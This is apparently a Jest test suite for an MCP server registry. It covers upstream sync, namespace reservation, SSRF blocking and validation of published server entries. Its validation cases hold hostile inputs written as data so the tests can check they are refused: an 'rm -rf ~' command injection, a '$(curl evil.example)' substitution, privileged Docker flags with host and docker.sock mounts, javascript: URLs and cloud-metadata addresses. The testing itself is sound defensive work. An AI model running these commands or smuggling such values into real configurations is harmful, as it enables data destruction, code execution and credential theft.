import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, expect, test } from '@jest/globals';
import { OFFICIAL_META, PUBLISHER_META, REGISTRY_META, ServerJson } from '../../../src/contract';
import { syncSource } from '../../../src/runtime/registry/sources/sync';
import { validateServer, withoutUntrusted } from '../../../src/runtime/registry/validate/validate';
import { type Composed, composed, composition, type Json, server, until } from './support';

const closed: (() => Promise<unknown>)[] = [];
afterEach(async () => {
  for (const close of closed.splice(0)) await close();
});

/** A registry elsewhere, whoever runs it. */
async function upstream(
  answer: (url: URL) => { status?: number; body: unknown; headers?: Record<string, string> },
): Promise<{ url: string; asked: URL[] }> {
  const asked: URL[] = [];
  const http: Server = createServer(({ url = '' }, response) => {
    const address = new URL(url, 'http://upstream');
    asked.push(address);
    const { status = 200, body, headers } = answer(address);
    response.writeHead(status, { 'content-type': 'application/json', ...headers }).end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  closed.push(async () => {
    http.closeAllConnections();
    await new Promise((resolve) => http.close(resolve));
  });
  return { url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`, asked };
}
const listed = (one: Json, status = 'active', updatedAt = '2026-01-01T00:00:00.000Z') => ({
  server: one,
  _meta: {
    [OFFICIAL_META]: {
      status,
      updatedAt,
      publishedAt: '2026-01-01T00:00:00.000Z',
      statusChangedAt: updatedAt,
      isLatest: true,
    },
  },
});
const list = (...servers: Json[]) => ({ servers, metadata: { count: servers.length } });
const publicSource = (url: string, more: Json = {}) =>
  ({
    kind: 'registry',
    id: 'public',
    class: 'public',
    url,
    privateNetwork: true,
    intervalSeconds: 0.05,
    approval: 'automatic',
    ...more,
  }) as const;

async function over(url: string, entries: Json[] = [], more: Json = {}, config: Json = {}): Promise<Composed> {
  const registry = await composed({
    entries,
    config: { sources: [composition('/dev/null'), publicSource(url, more)], ...config },
  });
  closed.push(() => registry.close());
  return registry;
}

test('a public entry in a reserved namespace is not served, and neither is one under a name of ours', async () => {
  const { url, asked } = await upstream(() => ({
    body: list(
      listed(server('com.acme/payments')),
      listed(server('com.acme.team/tool')),
      listed(server('COM.ACME/Files', '9.9.9')),
      listed(server('io.github.x/good')),
    ),
  }));
  const registry = await over(
    url,
    [{ server: server('com.acme/files'), groups: ['security'] }],
    {},
    { reserved: { 'com.acme': 'composition' } },
  );
  await until(() => asked.length > 1);
  await until(async () => (await registry.names('/v0.1/servers')).length > 0);
  expect(await registry.names('/v0.1/servers?include_deleted=true')).toEqual(['io.github.x/good@1.0.0']);
});

test('a name belongs to the first source that has it, even for who may not see that entry', async () => {
  const { url, asked } = await upstream(() => ({
    body: list(listed(server('org.example/files', '9.9.9')), listed(server('org.example/other'))),
  }));
  const registry = await over(url, [{ server: server('org.example/files'), groups: ['security'] }]);
  await until(async () => asked.length > 1 && (await registry.names('/v0.1/servers')).length > 0);
  expect(await registry.names('/v0.1/servers')).toEqual(['org.example/other@1.0.0']);
});

test('what is deleted upstream is blocked here', async () => {
  let deleted = false;
  const { url } = await upstream(() => ({
    body: list(
      listed(
        server('io.github.x/tool'),
        deleted ? 'deleted' : 'active',
        deleted ? '2026-02-01T00:00:00.000Z' : undefined,
      ),
    ),
  }));
  const registry = await over(url);
  await until(async () => (await registry.names('/v0.1/servers')).length === 1);
  deleted = true;
  await until(async () => (await registry.names('/v0.1/servers')).length === 0);
  expect((await registry.get('/v0.1/servers/io.github.x%2Ftool/versions/latest')).status).toBe(404);
  expect(await registry.json('/v0.1/servers?include_deleted=true')).toMatchObject({
    servers: [{ _meta: { [OFFICIAL_META]: { status: 'deleted' } } }],
  });
});

test('changes are asked for by their time, pages by their cursor', async () => {
  const { url, asked } = await upstream(({ searchParams }) =>
    searchParams.get('cursor') === 'two'
      ? { body: list(listed(server('io.github.x/b'))) }
      : { body: { ...list(listed(server('io.github.x/a'))), metadata: { nextCursor: 'two' } } },
  );
  const registry = await over(url);
  await until(() => asked.length >= 4);
  expect(await registry.names('/v0.1/servers')).toEqual(['io.github.x/a@1.0.0', 'io.github.x/b@1.0.0']);
  expect(asked[0]?.searchParams.has('updated_since')).toBe(false);
  expect(asked[1]?.searchParams.get('cursor')).toBe('two');
  expect(asked[2]?.searchParams.get('updated_since')).toBe('2025-12-31T23:55:00.000Z');
});

test.each<[string, (url: URL) => { status?: number; body: unknown; headers?: Record<string, string> }]>([
  ['fails', () => ({ status: 500, body: {} })],
  ['answers something else', () => ({ body: { servers: 'none' } })],
  [
    'answers more than is allowed',
    () => ({ body: list(listed(server('io.github.x/a', '1.0.0', { title: 'a'.repeat(40_000) }))) }),
  ],
  ['never ends', () => ({ body: { ...list(listed(server('io.github.x/b'))), metadata: { nextCursor: 'again' } } })],
  [
    'leads elsewhere',
    () => ({ status: 302, body: {}, headers: { location: 'http://169.254.169.254/latest/meta-data' } }),
  ],
])('an upstream that %s changes nothing', async (_, broken) => {
  let good = true;
  const { url, asked } = await upstream((address) =>
    good ? { body: list(listed(server('io.github.x/first'))) } : broken(address),
  );
  const registry = await over(url, [], { answerBytes: 20_000 });
  await until(async () => (await registry.names('/v0.1/servers')).length === 1);
  good = false;
  const before = asked.length;
  await until(
    async () =>
      asked.length > before &&
      /source_failures\{source="public"\} [1-9]/.test(
        await (await fetch(`${registry.registry.adminUrl}/metrics`)).text(),
      ),
  );
  expect(await registry.names('/v0.1/servers')).toEqual(['io.github.x/first@1.0.0']);
});

test.each(['http://169.254.169.254/', 'https://127.0.0.1:1/', 'https://[::ffff:10.0.0.1]/', 'https://localhost:1/'])(
  'the source %s is not connected to',
  async (url) => {
    const registry = await composed();
    closed.push(() => registry.close());
    const source = {
      ...registry.config.sources[0],
      ...publicSource(url, { privateNetwork: url.startsWith('http:') }),
      include: ['*'],
      exclude: [],
      entries: 10,
      answerBytes: 1_000,
      fullSeconds: 10,
      verifiesNamespaces: false,
    };
    const store = { state: async () => undefined } as never;
    await expect(syncSource(source as never, { config: registry.config, store, now: Date.now })).rejects.toThrow(
      /not allowed|metadata/,
    );
  },
);

const SAFE = { registryType: 'npm', identifier: '@acme/files', version: '1.0.0', transport: { type: 'stdio' } };
const argument = (value: string) => ({ packages: [{ ...SAFE, packageArguments: [{ type: 'positional', value }] }] });
const docker = (...runtimeArguments: Json[]) => ({
  packages: [
    { registryType: 'oci', identifier: 'ghcr.io/acme/files:1.0.0', transport: { type: 'stdio' }, runtimeArguments },
  ],
});

test.each<[string, Json, string]>([
  ['path traversal in a name', { name: '../..' }, '/name'],
  ['path traversal inside a name', { name: 'com.acme/a..b' }, '/name'],
  ['an encoded slash in a name', { name: 'com.acme/a%2fb' }, '/name'],
  ['a shell command after a separator', argument('x; rm -rf ~'), '/packages/0/packageArguments/0/value'],
  ['a substitution', argument('$(curl evil.example)'), '/packages/0/packageArguments/0/value'],
  ['backticks', argument('`id`'), '/packages/0/packageArguments/0/value'],
  [
    'a pipe in a default',
    { packages: [{ ...SAFE, packageArguments: [{ type: 'named', name: '--dir', default: 'a|b' }] }] },
    '/packages/0/packageArguments/0/default',
  ],
  ['a line feed', argument('a\nb'), '/packages/0/packageArguments/0/value'],
  ['an identifier that is an option', { packages: [{ ...SAFE, identifier: '--eval=1' }] }, '/packages/0/identifier'],
  ['an identifier with a command', { packages: [{ ...SAFE, identifier: 'a && b' }] }, '/packages/0/identifier'],
  ['a privileged container', docker({ type: 'named', name: '--privileged' }), '/packages/0/runtimeArguments/0'],
  ["the host's files", docker({ type: 'named', name: '-v', value: '/:/host' }), '/packages/0/runtimeArguments/0'],
  [
    "the engine's socket",
    docker({ type: 'named', name: '--mount', value: 'type=bind,src=/var/run/docker.sock,dst=/s' }),
    '/packages/0/runtimeArguments/0',
  ],
  ["the host's network", docker({ type: 'named', name: '--network', value: 'host' }), '/packages/0/runtimeArguments/0'],
  ['a link that is a script', { websiteUrl: 'javascript:alert(1)' }, '/websiteUrl'],
  [
    'a repository that is a script',
    { repository: { url: 'data:text/html,<script>', source: 'github' } },
    '/repository/url',
  ],
  ['an icon that is not https', { icons: [{ src: 'http://acme.example/icon.png' }] }, '/icons/0/src'],
  ['a remote inside our network', { remotes: [{ type: 'sse', url: 'https://vault.internal/mcp' }] }, '/remotes/0/url'],
  ['a remote at a private address', { remotes: [{ type: 'sse', url: 'https://10.0.0.1/mcp' }] }, '/remotes/0/url'],
  [
    'a remote at a cloud credential service',
    { remotes: [{ type: 'sse', url: 'https://169.254.169.254/' }] },
    '/remotes/0/url',
  ],
  ['a remote without TLS', { remotes: [{ type: 'sse', url: 'http://acme.example/mcp' }] }, '/remotes/0/url'],
  ['a remote with credentials', { remotes: [{ type: 'sse', url: 'https://a:b@acme.example/mcp' }] }, '/remotes/0/url'],
  ['a remote whose host is a variable', { remotes: [{ type: 'sse', url: 'https://{host}/mcp' }] }, '/remotes/0/url'],
  ['a tag that moves', { packages: [{ ...SAFE, version: 'latest' }] }, '/packages/0/version'],
  ['a package range', { packages: [{ ...SAFE, version: '^1.0.0' }] }, '/packages/0/version'],
  [
    'a bundle without hash',
    {
      packages: [
        { registryType: 'mcpb', identifier: 'https://github.com/acme/mcp.mcpb', transport: { type: 'stdio' } },
      ],
    },
    '/packages/0/fileSha256',
  ],
  ['words that cannot be seen', { description: 'Files\u202e of Acme' }, '/description'],
  [
    'a huge README',
    { _meta: { [PUBLISHER_META]: { readme: 'a'.repeat(5_000) } } },
    '/_meta/io.modelcontextprotocol.registry~1publisher-provided',
  ],
  [
    'metadata that a registry writes',
    { _meta: { [REGISTRY_META]: { tier: 'approved' } } },
    '/_meta/dev.strata.registry~1entry',
  ],
])('%s is refused', (_, part, pointer) => {
  const { problems } = validateServer({ ...server('com.acme/files'), ...part }, 'public');
  expect(problems?.map((problem) => problem.pointer)).toContain(pointer);
});

test('what is usual passes', () => {
  const document = server('io.github.acme/files', '1.2.3', {
    websiteUrl: 'https://acme.example/files?a=1&b=2',
    remotes: [{ type: 'streamable-http', url: 'https://mcp.acme.example/{tenant}/mcp', variables: { tenant: {} } }],
    packages: [
      {
        ...SAFE,
        packageArguments: [
          { type: 'positional', valueHint: 'folder' },
          { type: 'named', name: '--url', value: 'https://x.example/?a=1&b=2' },
        ],
      },
      ...(docker(
        { type: 'named', name: '-v', value: '{folder}:/data', variables: { folder: {} } },
        { type: 'named', name: '--network', value: 'none' },
      ).packages as Json[]),
    ],
  });
  expect(validateServer(document, 'public').problems).toBeUndefined();
});

test('of a foreign document nothing is taken over that could carry script or pass for our own words', () => {
  const document = {
    ...server('com.acme/files'),
    icons: [
      { src: 'https://acme.example/a.svg' },
      { src: 'https://acme.example/a.png' },
      { src: 'data:image/png;base64,AA' },
      { src: 'https://acme.example/a', mimeType: 'image/svg+xml' },
    ],
    _meta: { [PUBLISHER_META]: { a: 1 }, [REGISTRY_META]: { tier: 'approved' }, [OFFICIAL_META]: { status: 'active' } },
  };
  expect(withoutUntrusted(document)).toEqual({
    ...server('com.acme/files'),
    icons: [{ src: 'https://acme.example/a.png' }],
    _meta: { [PUBLISHER_META]: { a: 1 } },
  });
});

test('provenance that a publisher claims lifts no entry', async () => {
  const claimed = {
    [PUBLISHER_META]: {
      provenance: { sigstore_url: 'tuf-repo-cdn.sigstore.dev', signer_identity: 'good' },
      tier: 'Official',
    },
    [REGISTRY_META]: { tier: 'approved' },
  };
  const { url } = await upstream(() => ({
    body: list(listed(server('io.github.x/tool', '1.0.0', { packages: [SAFE], _meta: claimed }))),
  }));
  const registry = await over(url, [], { approval: 'required' });
  await until(async () =>
    /registry_entries 1/.test(await (await fetch(`${registry.registry.adminUrl}/metrics`)).text()),
  );
  expect(await registry.names('/v0.1/servers?include_deleted=true')).toEqual([]);
});

test('the shape that code reads takes what the published schema takes', () => {
  expect(ServerJson.safeParse(server('com.acme/files')).success).toBe(true);
});
